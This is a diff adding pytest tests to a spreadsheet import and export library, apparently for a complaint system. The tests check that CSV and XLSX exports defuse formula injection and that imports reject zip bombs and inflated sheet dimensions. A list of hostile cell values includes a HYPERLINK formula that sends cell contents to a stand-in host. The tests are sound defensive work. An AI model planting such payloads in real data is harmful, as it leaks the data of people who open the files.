@@ -1,5 +1,9 @@
+import csv
 import io
+import tracemalloc
+import zipfile
 from datetime import date, datetime
+from decimal import Decimal
 
 import pytest
 from openpyxl import Workbook, load_workbook
@@ -7,12 +11,26 @@ from openpyxl import Workbook, load_workbook
 from pembinaan.lib import tabular
 from pembinaan.lib.tabular import (
     TableError,
+    check_xlsx,
+    csv_cell,
     csv_lines,
+    is_formula_like,
     list_export,
     parse_date,
     read_table,
     xlsx_bytes,
 )
+from tests.files import xlsx_by_hand, xlsx_row
+
+# What a citizen may type into a complaint, each of which a spreadsheet would evaluate.
+HOSTILE = [
+    '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")',
+    "+1",
+    "-1+2",
+    "@SUM(A1:A9)",
+    "\tx",
+    "\rx",
+]
 
 
 def test_it_reads_a_utf8_csv_with_a_bom_and_lower_cases_the_header():
@@ -109,3 +127,121 @@ def test_csv_lines_come_in_chunks_of_lines_and_join_to_every_row():
     lines = "".join(chunks).lstrip("\ufeff").splitlines()
     assert lines[0] == "n,teks" and lines[-1] == f"{len(rows) - 1},baris {len(rows) - 1}"
     assert len(lines) == len(rows) + 1
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_text_that_a_spreadsheet_would_evaluate_is_formula_like(text):
+    assert is_formula_like(text)
+
+
+@pytest.mark.parametrize("value", ["Siti", "1+1", " =x", "", None, -1, Decimal("-2.5"), -0.5])
+def test_other_text_and_every_number_are_not(value):
+    assert not is_formula_like(value)
+
+
+def test_csv_cell_puts_an_apostrophe_before_formula_like_text_only():
+    assert [csv_cell(v) for v in ["-1+2", "'ok", "Siti", -1, None]] == [
+        "'-1+2",
+        "''ok",
+        "Siti",
+        -1,
+        "",
+    ]
+
+
+def read_csv_export(chunks) -> list[list[str]]:
+    return list(csv.reader(io.StringIO("".join(chunks).removeprefix("\ufeff"))))
+
+
+def test_a_csv_export_writes_formula_like_text_after_an_apostrophe():
+    rows = read_csv_export(csv_lines(["isi", "angka"], [[text, -3] for text in HOSTILE]))
+    assert [r[0] for r in rows[1:]] == ["'" + text for text in HOSTILE]
+    assert {r[1] for r in rows[1:]} == {"-3"}  # a negative number is left a number
+
+
+def test_a_csv_export_reads_back_through_read_table_unchanged():
+    texts = [*HOSTILE[:5], "'kutip", "''dua", "Siti", "-"]
+    content = "".join(csv_lines(["isi"], [[t] for t in texts])).encode()
+    _, rows = read_table(io.BytesIO(content), max_rows=20)
+    assert [r[0] for r in rows] == texts
+
+
+def test_an_xlsx_export_writes_formula_like_text_as_string_cells_and_numbers_as_numbers():
+    rows = [[text, -3, Decimal("-2.5")] for text in HOSTILE]
+    content = xlsx_bytes(["isi", "angka", "desimal"], rows, title="Masukan")
+    sheet = load_workbook(io.BytesIO(content)).active
+    cells = list(sheet.iter_rows(min_row=2))
+    # XML reads a bare carriage return back as a line feed; the cell is text all the same.
+    assert [c[0].value for c in cells] == [*HOSTILE[:5], "\nx"]
+    assert {c[0].data_type for c in cells} == {"s"}
+    assert {(c[1].value, c[1].data_type, c[2].value, c[2].data_type) for c in cells} == {
+        (-3, "n", -2.5, "n")
+    }
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+
+
+def test_list_export_neutralises_both_formats(rf):
+    for fmt in ("csv", "xlsx"):
+        response = list_export(
+            rf.get("/", {"format": fmt}), name="masukan", header=["isi"],
+            rows=lambda: [[t] for t in HOSTILE],
+        )  # fmt: skip
+        if fmt == "csv":
+            assert [r[0] for r in read_csv_export(
+                c.decode() for c in response.streaming_content
+            )[1:]] == ["'" + t for t in HOSTILE]  # fmt: skip
+        else:
+            sheet = load_workbook(io.BytesIO(response.content)).active
+            assert {c.data_type for (c,) in sheet.iter_rows(min_row=2)} == {"s"}
+
+
+def test_a_workbook_declaring_the_whole_sheet_is_refused_before_openpyxl_loads_it(monkeypatch):
+    content = xlsx_by_hand(xlsx_row(1, "nip", "nama"), dimension="A1:XFD1048576")
+    assert len(content) < 1600  # the 1.5 KB workbook of the issue
+
+    def never(*args, **kwargs):
+        raise AssertionError("openpyxl was asked to load the workbook")
+
+    monkeypatch.setattr(tabular, "load_workbook", never)
+    tracemalloc.start()
+    try:
+        with pytest.raises(TableError, match="menyatakan ukuran A1:XFD1048576"):
+            read_table(io.BytesIO(content), max_rows=20_000)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert peak < 50 * 1024 * 1024
+
+
+def test_a_workbook_with_more_rows_than_allowed_is_refused_without_a_dimension(monkeypatch):
+    monkeypatch.setattr(tabular, "load_workbook", None)  # never reached
+    rows = "".join(xlsx_row(n, str(n)) for n in range(1, 13))
+    with pytest.raises(TableError, match="lebih dari 10 baris"):
+        read_table(io.BytesIO(xlsx_by_hand(rows)), max_rows=10)
+
+
+def test_a_row_wider_than_the_column_cap_is_refused():
+    content = xlsx_by_hand(xlsx_row(1, *["x"] * (tabular.XLSX_MAX_COLUMNS + 1)))
+    with pytest.raises(TableError, match="lebih lebar"):
+        check_xlsx(io.BytesIO(content), max_rows=10)
+
+
+def test_a_zip_bomb_is_refused_by_its_unpacked_size():
+    content = xlsx_by_hand(xlsx_row(1, "nip"), extra=b"\0" * (tabular.XLSX_MAX_UNCOMPRESSED + 1))
+    assert len(content) < 100_000
+    with pytest.raises(TableError, match="setelah dibuka"):
+        check_xlsx(io.BytesIO(content), max_rows=10)
+
+
+def test_a_workbook_within_the_bounds_is_read(monkeypatch):
+    monkeypatch.setattr(tabular, "_SCAN_CHUNK", 7)  # tags cut by every chunk's end
+    rows = "".join(xlsx_row(n, "a", "b") for n in range(1, 12))
+    header, data = read_table(io.BytesIO(xlsx_by_hand(rows, dimension="A1:B11")), max_rows=10)
+    assert header == ["a", "b"] and len(data) == 10
+
+
+def test_a_sheet_without_a_dimension_is_read_no_wider_than_the_cap():
+    content = xlsx_by_hand('<row r="1"><c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row>')
+    header, _ = read_table(io.BytesIO(content), max_rows=10)
+    assert len(header) == tabular.XLSX_MAX_COLUMNS
